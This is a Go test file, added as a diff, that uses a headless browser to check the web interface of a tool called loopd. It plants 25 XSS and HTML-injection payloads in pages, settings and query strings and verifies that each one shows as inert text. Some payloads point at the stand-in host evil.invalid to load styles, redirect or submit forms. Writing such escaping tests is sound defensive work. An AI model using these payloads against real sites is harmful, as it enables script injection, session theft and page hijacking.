@@ -1,0 +1,176 @@
+package web
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"html"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/cdp"
+	"github.com/chromedp/cdproto/emulation"
+	"github.com/chromedp/chromedp"
+
+	"loopd/internal/control"
+	"loopd/internal/ledger"
+	"loopd/loop"
+)
+
+// attacks are texts that would run something, or load it, where a page took them
+// for markup, a script, an address or a style.
+var attacks = []string{
+	`<script>window.pwned=1</script>`, `</script><script>window.pwned=1</script>`, `<img src=x onerror=window.pwned=1>`, `<svg onload=window.pwned=1>`,
+	`<svg><script>window.pwned=1</script></svg>`, `"><img src=x onerror="window.pwned=1">`, `' onmouseover='window.pwned=1`, `" autofocus onfocus="window.pwned=1`,
+	`javascript:window.pwned=1`, `<a href="javascript:window.pwned=1">a</a>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<iframe src="javascript:parent.pwned=1">`,
+	`</pre></li></ol><script>window.pwned=1</script>`, `</title><script>window.pwned=1</script>`, `</style><script>window.pwned=1</script>`, `<!--><script>window.pwned=1</script-->`,
+	`<style>@import "http://evil.invalid/x";</style>`, `<link rel=stylesheet href="http://evil.invalid/x">`, `<meta http-equiv=refresh content="0;url=http://evil.invalid/">`,
+	`<form action="http://evil.invalid/"><button autofocus>x</button></form>`, `<base href="http://evil.invalid/">`, `<object data="data:text/html,<script>parent.pwned=1</script>"></object>`,
+	`{{.Token}}<div hx-get="/settings" hx-trigger="load" hx-sse:connect="http://evil.invalid/"></div>`, `<details open ontoggle=window.pwned=1>`, "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
+}
+
+func TestNothingThatWasSaidIsRun(t *testing.T) {
+	if len(attacks) != 25 {
+		t.Fatalf("%d attacks, want 25", len(attacks))
+	}
+	b := newBrowser(t)
+	dir := privateDir(t)
+	n := fabricate(t, dir, plan{candidates: 25, budget: 1500, rich: 80, words: func(i int) string { return attacks[i%25] }})
+	for i, a := range attacks {
+		write(t, filepath.Join(dir, "spool", fmt.Sprintf("a%02d.yaml", i)), fmt.Sprintf("rationale: %q\nfiles:\n  skills/find/SKILL.md: text\n", a))
+	}
+	o := optionsFor(t, dir)
+	o.Settings = func() ([]Setting, error) {
+		var out []Setting
+		for _, a := range attacks {
+			out = append(out, Setting{a, a, a})
+		}
+		return out, nil
+	}
+	s := openSite(t, o)
+	b.do(t, chromedp.Navigate(s.s.Link()))
+	shown := make(map[string]bool)
+	visit := func(path string) {
+		b.do(t, chromedp.Navigate(b.address(s, path)))
+		if eval[bool](t, b, `window.pwned !== undefined || document.querySelector("main [hx-get], main iframe, main object, main script, main style, main base, main link, main meta, main img, main math, a[href^='javascript:'], [onerror], [onload], [onfocus], [ontoggle], [onmouseover]") !== null`) {
+			t.Errorf("%s took a text for markup", path)
+		}
+		text := eval[string](t, b, "document.documentElement.textContent")
+		for _, a := range attacks {
+			if strings.Contains(text, a) {
+				shown[a] = true
+			}
+		}
+	}
+	paths := s.crawl(map[string]int{"trial": 30, "pair": 5, "raw": 8})
+	for path := range paths {
+		visit(path)
+	}
+	for _, p := range n.state.Trials[:4] {
+		visit("/trial/" + p.ID + "/raw/stderr.txt")
+	}
+	b.quiet(t, s)
+	for _, a := range attacks {
+		if !shown[a] {
+			t.Errorf("no page shows %s as the text it is", a)
+		}
+		visit("/queue?said=" + url.QueryEscape(a))
+		// These are of no page: the browser notes that the answer is an error.
+		if _, body := s.get("/trial/" + url.PathEscape(a)); strings.Contains(body, a) && html.EscapeString(a) != a {
+			t.Errorf("the page of an error takes %s for markup", a)
+		}
+	}
+	b.quiet(t, s)
+}
+
+// keptUpToDate looks at a page that is open while loopd goes on.
+func keptUpToDate(t *testing.T, b *browser, s site, dir string, n *night) {
+	runs := &told{live: control.Live{PID: 4711, Verb: "serve", Phase: control.Running, Sessions: []control.Session{{Cell: "R1/haiku", Rep: 3, Attempt: 1, Since: nightLooked}}}}
+	b.do(t, chromedp.Navigate(b.address(s, "/")))
+	b.until(t, `document.querySelector("#now").innerText.includes("Not running since")`)
+	c, err := control.Serve(dir, runs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	b.until(t, `document.querySelector("#now").innerText.includes("R1/haiku rep 3")`)
+	if len(eval[string](t, b, `document.querySelector("#now h2").innerText`)) == 0 {
+		t.Error("what is new lacks its heading")
+	}
+	// What is recorded shows too: a second campaign has begun.
+	l, err := ledger.Open(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	next := n.state.Started
+	next.Campaign, next.Settings.Budget = "0a1b2c3-2", 777
+	data, err := json.Marshal(next)
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = l.Append(t.Context(), ledger.Record{Time: nightLooked, Kind: string(loop.KindStarted), Payload: data})
+	if err := errorsOf(err, l.Close()); err != nil {
+		t.Fatal(err)
+	}
+	b.until(t, `document.querySelector("#now").innerText.includes("0 of 777 sessions")`)
+	b.quiet(t, s)
+}
+
+func errorsOf(errs ...error) error {
+	for _, err := range errs {
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// pictures writes what the README shows, and what a person looks at, to a folder.
+func pictures(t *testing.T, b *browser, s site, n *night, to string) {
+	campaign := "/campaign/" + n.state.Started.Campaign
+	kept := candidatePath(n.state.Started.Campaign, n.state.Kept[0])
+	pair := links.FindAllStringSubmatch(s.want(kept), -1)
+	pages := map[string]string{"campaign": campaign, "candidate": kept, "queue": "/queue", "settings": "/settings", "frozen": "/frozen", "confirm": "/confirm/halt", "session": "/trial/" + n.state.Trials[3].ID}
+	for _, m := range pair {
+		if strings.HasPrefix(m[1], "/pair/") {
+			pages["pair"] = m[1]
+			break
+		}
+	}
+	for name, path := range pages {
+		for _, scheme := range []string{"light", "dark"} {
+			b.scheme(t, scheme)
+			b.do(t, chromedp.Navigate(b.address(s, path)))
+			shoot(t, b, chromedp.CaptureScreenshot(), filepath.Join(to, name+"-"+scheme+".png"))
+			shoot(t, b, chromedp.FullScreenshot(100), filepath.Join(to, "full-"+name+"-"+scheme+".png"))
+		}
+	}
+	b.scheme(t, "light")
+	for name, media := range map[string]string{"print": "print", "narrow": "screen"} {
+		b.do(t, chromedp.Navigate(b.address(s, campaign)), chromedp.Func(func(ctx context.Context, tab *chromedp.Target) error {
+			_, err := cdp.Call(ctx, tab, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Media: media})
+			return err
+		}))
+		if name == "narrow" {
+			b.do(t, chromedp.EmulateViewport(400, 800))
+		}
+		shoot(t, b, chromedp.FullScreenshot(100), filepath.Join(to, "full-"+name+".png"))
+	}
+}
+
+func shoot(t *testing.T, b *browser, a chromedp.Action[[]byte], path string) {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(b.ctx, time.Minute)
+	defer cancel()
+	data, err := chromedp.Run(ctx, a)
+	if err == nil {
+		err = os.WriteFile(path, data, 0o644)
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+}
